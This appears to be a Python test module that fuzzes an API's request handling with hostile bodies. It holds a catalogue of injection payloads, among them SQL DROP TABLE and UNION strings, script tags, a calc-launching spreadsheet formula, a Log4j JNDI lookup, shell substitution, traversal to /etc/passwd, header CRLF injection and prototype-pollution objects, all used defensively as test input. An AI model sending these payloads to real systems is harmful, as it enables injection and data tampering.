"""Hostile bodies: bytes that are no strict JSON, and JSON whose values are hardly what was meant.

`MARK` stands in every hostile value. Names are free of it: an answer shows them, to say where a fault is.
"""

import json
from collections.abc import Iterator
from functools import cache
from typing import Any, NamedTuple

from engage_api.http import examples
from tests.attack import jsonl
from tests.attack.catalogue import Operation, description, kinds, properties, resolved
from tests.attack.garbage import MARK, NOT_JSON

JSON = "application/json"


class Attack(NamedTuple):
    """A body with what is wrong with it. `never`: no operation may take it."""

    name: str
    body: bytes
    type: str = JSON
    never: bool = False


# What strict JSON allows and no operation wants.
WRONG: dict[str, Any] = {
    "null": None,
    "true": True,
    "a number": 7,
    "a text": MARK,
    "an empty list": [],
    "a list of one": [{"kind": "person"}],
    "100,000 nulls": [None] * 100_000,
    "32 deep": json.loads("[" * 32 + "]" * 32),
    "prototype": {"__proto__": {"isAdmin": True}},
    "constructor": {"constructor": {"prototype": {"isAdmin": True}}},
    "python names": {"__class__": MARK, "__init__": MARK, "model_config": {}},
    "an empty name": {"": MARK},
    "a blank name": {" kind": "person"},
    "a long name": {"n" * 500_000: 1},
    "90,000 names": {f"n{at}": 1 for at in range(90_000)},
    "a name in disguise": {"\u212aind": "person", "dis\u00adplayName": MARK},
    "snake case": {"display_name": MARK, "external_id": MARK},
    "an operator of a database": {"kind": {"$ne": None}, "displayName": {"$gt": ""}},
    "a pointer as a name": {"/a~1b": 1, "~0": 2, "%00": 3},
}
TYPES = ["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""]
CHARSETS = ["application/json; charset=utf-16", "application/json;;;", "application/json; charset=\xff"]

# Values that are all right as text, and want to be something else somewhere.
TEXTS: dict[str, str] = {
    "sql": f"'; DROP TABLE customer; -- {MARK}",
    "sql union": f"' UNION SELECT document FROM customer -- {MARK}",  # noqa: S608  # nobody runs it
    "html": f"<script>alert('{MARK}')</script>",
    "formula": f"=cmd|'/c calc'!A0 {MARK}",
    "template": f"{{{{7*7}}}} ${{7*7}} #{{7*7}} %s %n {MARK}",
    "log4j": f"${{jndi:ldap://x/{MARK}}}",
    "shell": f"$(id) `id` ; id | {MARK}",
    "path": f"../../etc/passwd\\..\\{MARK}",
    "header": f"a\r\nSet-Cookie: {MARK}=1",
    "ansi": f"\x1b[31m{MARK}\x07",
    "control characters": MARK + "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "right to left": f"\u202e{MARK}\u202c\u2066",
    "zero width": f"\u200b\u200c\u200d\ufeff\u2060{MARK}",
    "combining flood": MARK + "e" + "\u0301" * 150,
    "ligatures that grow": "\ufdfa" * 190 + MARK,
    "words that grow": "".join(chr(0x3300 + (at * 37) % 88) for at in range(190)) + MARK,
    "beyond the plane": "\U0002070e" * 190 + MARK,
    "noncharacters": f"\ufffe\uffff\U0010ffff{MARK}",
    "private use": f"\ue000\uf8ff\U000f0000{MARK}",
    "family": f"👨‍👩‍👧‍👦🏳️‍🌈{MARK}",
    "line separators": f"\u2028\u2029\u0085{MARK}",
    "turkish": f"İıŞş{MARK}",
    "not normal": f"A\u030aÅ\u212b{MARK}",
    "search operators": f'" OR {MARK}* NEAR(a b) :* & | ! <-> (',
    "a currency sign": f"¤live¤customer {MARK}",
    "wildcards": f"%_{MARK}*?[a]",
    "blanks": " \u00a0\u3000 " + MARK,
    "json in text": '{"a":"' + MARK,
    "numbers": f"0x10 1e400 NaN -0 {MARK}",
    "long": "x" * 5_000 + MARK,
    "very long": "x" * 50_000 + MARK,
}
MOMENTS = [
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59.999Z",
    "9999-12-31T23:59:59-23:59",
    "0000-01-01T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "2026-11-21T24:00:00Z",
    "2026-12-31T23:59:60Z",
    "2026-11-21T20:00:00",
    "2026-11-21",
    "2026-11-21T20:00:00.123456789Z",
    "2026-11-21T20:00:00+99:99",
    "١٢٣٤-01-01T00:00:00Z",
    "now",
    "1795291200",
]
PARTS: list[Any] = [None, 7, -0.0, MARK * 2_000, f"{MARK}\u202e", [], {}]
OTHERS: list[Any] = [None, True, 0, -0.0, -1, 1.5, 2**53, 1e308, "", [], [[]], {}, {"a": MARK}, [None], [MARK] * 2]


def attacks(operation: Operation) -> Iterator[Attack]:
    """Every hostile body for an operation: those for all, then a good one with one thing wrong at a time."""
    if operation.type == jsonl.TYPE:
        yield from _files()
        return
    for name, body in NOT_JSON.items():
        yield Attack(name, body, never=operation.required if not body else operation.schema is not None)
    yield from (Attack(name, body) for name, body in _wrong().items())
    if operation.schema is None:
        values = {**TEXTS, **{repr(value): value for value in (*MOMENTS, *OTHERS)}}
        yield from (Attack(f"unasked: {name}", _json({"k": value})) for name, value in values.items())
        return
    good = plain(operation)
    for kind in (*TYPES, *CHARSETS):
        yield Attack(f"as {kind or 'nothing'}", _json(good), kind, never=kind in TYPES)
    yield Attack("twice", _json(good) * 2, never=True)
    for name, value in list(good.items())[:1]:  # there may be nothing to say in it
        yield Attack("good but for a name twice", _json(good)[:-1] + b"," + _json({name: value})[1:], never=True)
    for name, schema in properties(operation.schema).items():
        yield from _values(operation, name, schema)
    for name in sorted(response_only(operation)):
        yield Attack(f"{name} is not yours to say", _json({**good, name: MARK}), never=True)
    yield Attack("one too many", _json({**good, "zz": MARK}), never=True)


def _files() -> Iterator[Attack]:
    """Hostile files: none of the kind, a line that is none, and a good one whose head says what it hardly means."""
    for name, body in {**NOT_JSON, **_wrong()}.items():
        yield Attack(name, body, jsonl.TYPE, never=True)
        yield Attack(f"line: {name}", jsonl.file(jsonl.HEAD, body, jsonl.END), jsonl.TYPE, never=bool(body.strip()))
    for kind in (JSON, *TYPES, *CHARSETS):
        yield Attack(f"as {kind or 'nothing'}", jsonl.WHOLE, kind, never=True)
    for name, wrong in jsonl.wrong({**TEXTS, **{json.dumps(value)[:30]: value for value in (*MOMENTS, *OTHERS)}}):
        yield Attack(name, wrong, jsonl.TYPE)


@cache
def _wrong() -> dict[str, bytes]:
    return {name: _json(value) for name, value in WRONG.items()}


def plain(operation: Operation) -> dict[str, Any]:
    """A body that is fine whatever else there is: no reference, nothing that must be unique, no time that matters."""
    names = {"customerId", "parentId", "externalId", "expiresAt", "validUntil", "waitingFor"}

    def without(value: Any) -> Any:
        if isinstance(value, dict):
            return {name: without(part) for name, part in value.items() if name not in names}
        return [without(part) for part in value] if isinstance(value, list) else value

    body: dict[str, Any] = without(operation.example)
    return body


def response_only(operation: Operation) -> set[str]:
    """What resources show and this operation does not take, and what our tables know besides."""
    shown = {name for schema in description()["components"]["schemas"].values() for name in properties(schema)}
    inside = {"workspaceId", "workspace_id", "madeBy", "made_by", "rendered", "document", "scope", "plan", "sees"}
    return (shown | inside) - set(properties(operation.schema or {}))


def _values(operation: Operation, name: str, schema: dict[str, Any]) -> Iterator[Attack]:
    for other in OTHERS:
        yield _with(operation, name, other, f"{name}: {json.dumps(other)[:30]}")
    for kind in kinds(schema):
        if kind.get("format") == "date-time":
            yield from (_with(operation, name, moment, f"{name}: {moment}") for moment in MOMENTS)
        elif kind.get("type") == "string" and "enum" not in kind:
            yield from (_with(operation, name, text, f"{name}: {what}") for what, text in TEXTS.items())
        elif kind.get("type") == "array":
            yield from _lists(operation, name, kind)
        elif kind.get("type") == "object":
            yield from _objects(operation, name, kind)


def _lists(operation: Operation, name: str, kind: dict[str, Any]) -> Iterator[Attack]:
    schemas = description()["components"]["schemas"]
    one = (plain(operation).get(name) or [examples.of(kind["items"], schemas)])[0]
    for many in (2, 49, 101, 10_000):
        yield _with(operation, name, [one] * many, f"{name}: {many} of them")
    for part in properties(resolved(kind["items"])):
        for other in PARTS:
            yield _with(operation, name, [{**one, part: other}], f"{name}/{part}: {json.dumps(other)[:20]}")


def _objects(operation: Operation, name: str, kind: dict[str, Any]) -> Iterator[Attack]:
    for what, text in TEXTS.items():
        yield _with(operation, name, {"k": text}, f"{name}: value {what}")
        yield _with(operation, name, {text[:100].replace(MARK, ""): "v"}, f"{name}: name {what}")
    for many in (50, 51, 5_000):
        yield _with(operation, name, {f"k{at}": MARK for at in range(many)}, f"{name}: {many} names")
    for part in properties(kind):
        for other in PARTS:
            whole = {**(plain(operation).get(name) or {}), part: other}
            yield _with(operation, name, whole, f"{name}/{part}: {json.dumps(other)[:20]}")


def _with(operation: Operation, name: str, value: Any, what: str) -> Attack:
    return Attack(what, _json({**plain(operation), name: value}))


def _json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8")
